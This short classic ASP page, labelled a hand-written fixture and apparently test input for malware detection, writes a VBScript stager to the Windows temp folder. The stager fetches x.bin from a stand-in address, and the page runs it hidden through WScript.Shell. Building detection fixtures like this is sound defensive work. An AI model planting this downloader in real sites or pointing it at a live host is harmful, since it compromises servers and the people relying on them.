<%
' Hand-written fixture: the page writes a script to disk and starts it.
Set fs = CreateObject("Scripting.FileSystemObject")
Set f = fs.CreateTextFile("c:\windows\temp\job.vbs", True)
f.Write "Set h = CreateObject(""MSXML2.XMLHTTP"")" & vbCrLf
f.Write "h.Open ""GET"", ""http://192.0.2.1/x.bin"", False" & vbCrLf
f.Write "h.Send" & vbCrLf
f.Close
Set sh = CreateObject("WScript.Shell")
sh.Run "wscript.exe c:\windows\temp\job.vbs", 0, False
%>
